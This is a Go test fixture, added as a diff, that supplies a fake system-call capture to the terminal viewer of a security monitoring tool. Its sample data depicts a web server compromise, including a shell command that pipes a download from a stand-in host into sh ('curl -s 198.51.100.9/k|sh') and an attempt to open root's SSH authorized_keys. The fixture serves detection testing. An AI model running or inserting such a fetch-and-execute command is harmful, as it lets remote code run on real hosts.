@@ -1,0 +1,182 @@
+package tui
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"strings"
+	"sync/atomic"
+	"time"
+)
+
+// t0 is when the fake capture begins.
+var t0 = uint64(time.Date(2026, 3, 2, 12, 7, 0, 0, time.UTC).UnixNano())
+
+// fakeStore is a small made-up capture: a shell with children that ran for ten
+// seconds. slow, when set, delays every answer until it is released.
+type fakeStore struct {
+	events  []EventRow
+	procs   []Proc
+	alerts  []Alert
+	info    Info
+	slow    chan struct{}
+	queries atomic.Int64
+}
+
+func newFakeStore(n int) *fakeStore {
+	s := &fakeStore{info: Info{Name: "web01.scap.zst", Host: "web01", Start: t0, End: t0 + 10e9, Events: int64(n), Final: true, Percent: 100}}
+	kinds := []struct{ proc, typ, args string }{
+		{"nginx", "accept4", "fd=9(<4t>10.0.0.7:51022->10.0.0.4:80) queuepct=0"},
+		{"nginx", "recvfrom", "res=611 data=POST /up.php HTTP/1.1.. fd=9"},
+		{"sh", "execve", "res=0 exe=/bin/sh args=-c.id;curl.-s.198.51.100.9/k|sh."},
+		{"curl", "connect", "res=0 tuple=10.0.0.4:40112->198.51.100.9:80 fd=3"},
+		{"sh", "openat", "fd=-2(ENOENT) dirfd=-100(AT_FDCWD) name=/root/.ssh/authorized_keys"},
+	}
+	for i := range n {
+		k := kinds[i%len(kinds)]
+		row := EventRow{Num: uint64(i + 1), TS: t0 + uint64(i)*10e9/uint64(max(n, 1)), CPU: uint16(i % 2),
+			Proc: k.proc, PID: int64(800 + i%len(kinds)), Type: k.typ, Args: k.args, Failed: strings.Contains(k.args, "ENOENT")}
+		if i == 12 {
+			row.Alert = 'C'
+		}
+		s.events = append(s.events, row)
+	}
+	s.procs = []Proc{
+		{ID: 1, PID: 1, Name: "systemd", User: "root", Events: 31002},
+		{ID: 2, Parent: 1, PID: 801, Name: "nginx", Cmdline: "nginx: master", User: "root", Events: 1220},
+		{ID: 3, Parent: 2, PID: 812, Name: "nginx", Cmdline: "nginx: worker", User: "www-data", Events: 402118},
+		{ID: 4, Parent: 3, PID: 4411, Name: "sh", Cmdline: "sh -c id;curl -s 198.51.100.9/k|sh", User: "www-data",
+			Start: t0 + 2e9, End: t0 + 9e9, Events: 512, Alerts: 1, Worst: 'C'},
+		{ID: 5, Parent: 4, PID: 4413, Name: "curl", Cmdline: "curl -s 198.51.100.9/k", User: "www-data", Start: t0 + 3e9, End: t0 + 4e9, Events: 117},
+		{ID: 6, Parent: 1, PID: 644, Name: "sshd", User: "root", Events: 12881},
+	}
+	s.alerts = []Alert{{Event: 13, TS: t0 + 12*10e9/uint64(max(n, 13)), Priority: "Critical", Rule: "Run shell untrusted", Proc: "sh", PID: 4411, ProcID: 4,
+		Output: "Shell spawned by untrusted binary (proc=sh parent=nginx user=www-data)", Tags: []string{"T1059.004", "process"}}}
+	return s
+}
+
+func (s *fakeStore) wait(ctx context.Context) error {
+	s.queries.Add(1)
+	if s.slow == nil {
+		return nil
+	}
+	select {
+	case <-s.slow:
+		return nil
+	case <-ctx.Done():
+		return ctx.Err()
+	}
+}
+
+func (s *fakeStore) Info() Info { return s.info }
+
+type incomplete struct{ error }
+
+func (incomplete) IsIncomplete() bool { return true }
+
+// Check accepts "field = value" terms joined by and, or.
+func (s *fakeStore) Check(filter string) error {
+	switch {
+	case strings.HasSuffix(filter, "="):
+		return incomplete{errors.New("value expected")}
+	case !strings.ContainsAny(filter, "=<>") && !strings.Contains(filter, " in "):
+		return fmt.Errorf("unknown field %q", filter)
+	}
+	return nil
+}
+
+func (s *fakeStore) Fields() []string { return []string{"evt.type", "evt.time", "proc.name"} }
+
+type fakeList struct {
+	s    *fakeStore
+	rows []EventRow
+}
+
+func (s *fakeStore) Events(filter string, r Range) EventList {
+	l := &fakeList{s: s}
+	for _, e := range s.events {
+		if strings.Contains(filter, "evt.failed = true") && !e.Failed ||
+			!r.all() && (e.TS < r.A || e.TS > r.B) ||
+			strings.Contains(filter, "evt.type = ") && !strings.Contains(filter, "evt.type = "+e.Type) {
+			continue
+		}
+		l.rows = append(l.rows, e)
+	}
+	return l
+}
+
+func (l *fakeList) count(ctx context.Context) (int64, bool, error) {
+	return int64(len(l.rows)), true, l.s.wait(ctx)
+}
+
+func (l *fakeList) page(ctx context.Context, from int64, n int) ([]EventRow, error) {
+	if err := l.s.wait(ctx); err != nil {
+		return nil, err
+	}
+	return l.rows[min(from, int64(len(l.rows))):min(from+int64(n), int64(len(l.rows)))], nil
+}
+
+func (l *fakeList) IndexOf(_ context.Context, num uint64) (int64, error) {
+	for i, r := range l.rows {
+		if r.Num >= num {
+			return int64(i), nil
+		}
+	}
+	return int64(len(l.rows)) - 1, nil
+}
+
+func (s *fakeStore) Detail(ctx context.Context, num uint64) (*Detail, error) {
+	if err := s.wait(ctx); err != nil {
+		return nil, err
+	}
+	if num == 0 || num > uint64(len(s.events)) {
+		return nil, errNoEvent
+	}
+	e := s.events[num-1]
+	return &Detail{Num: num, TS: e.TS, ProcID: 4, PID: e.PID, Title: e.Type, Sections: []Section{
+		{"Event", []DetailField{{"time", clockMicro(e.TS), ""}, {"type", e.Type, "evt.type"}}},
+		{"Process", []DetailField{{"name", e.Proc, "proc.name"}, {"pid", fmt.Sprint(e.PID), "proc.pid"}}},
+		{"Parameters", []DetailField{{"args", e.Args, ""}}},
+	}, Data: []byte("/bin/sh\x00-c\x00id;curl -s 198.51.100.9/k|sh\x00")}, nil
+}
+
+var errNoEvent = errors.New("no such event")
+
+func (s *fakeStore) EventAt(_ context.Context, ts uint64) (uint64, error) {
+	for _, e := range s.events {
+		if e.TS >= ts {
+			return e.Num, nil
+		}
+	}
+	return 0, errNoEvent
+}
+
+func (s *fakeStore) Neighbour(_ context.Context, from uint64, _ int64, dir int) (uint64, error) {
+	for i := int(from) - 1 + dir; i >= 0 && i < len(s.events); i += dir {
+		if s.events[i].PID == s.events[from-1].PID {
+			return s.events[i].Num, nil
+		}
+	}
+	return 0, errNoEvent
+}
+
+func (s *fakeStore) Procs(ctx context.Context) ([]Proc, error) { return s.procs, s.wait(ctx) }
+
+func (s *fakeStore) ProcDetail(ctx context.Context, id int64, at uint64) ([]Section, error) {
+	return []Section{{"Process", []DetailField{{"exe", "/bin/dash", "proc.exepath"}, {"id", fmt.Sprint(id), ""}}},
+		{"Descriptors at T", []DetailField{{"0", "/dev/null", "fd.name"}, {"1", "pipe:[88121]", "fd.name"}}}}, s.wait(ctx)
+}
+
+func (s *fakeStore) Alerts(ctx context.Context) ([]Alert, error) { return s.alerts, s.wait(ctx) }
+
+func (s *fakeStore) Why(ctx context.Context, _ uint64, _ string) ([]TraceLine, error) {
+	return []TraceLine{{0, "and", "true", ""}, {1, "spawned_process", "true", ""}, {1, "proc.name in (shell_binaries)", "true", "sh"}}, s.wait(ctx)
+}
+
+func (s *fakeStore) Strip(_ context.Context, n int) ([]int64, error) {
+	c := make([]int64, n)
+	for _, e := range s.events {
+		c[min(int((e.TS-t0)*uint64(n)/10e9), n-1)]++
+	}
+	return c, nil
+}
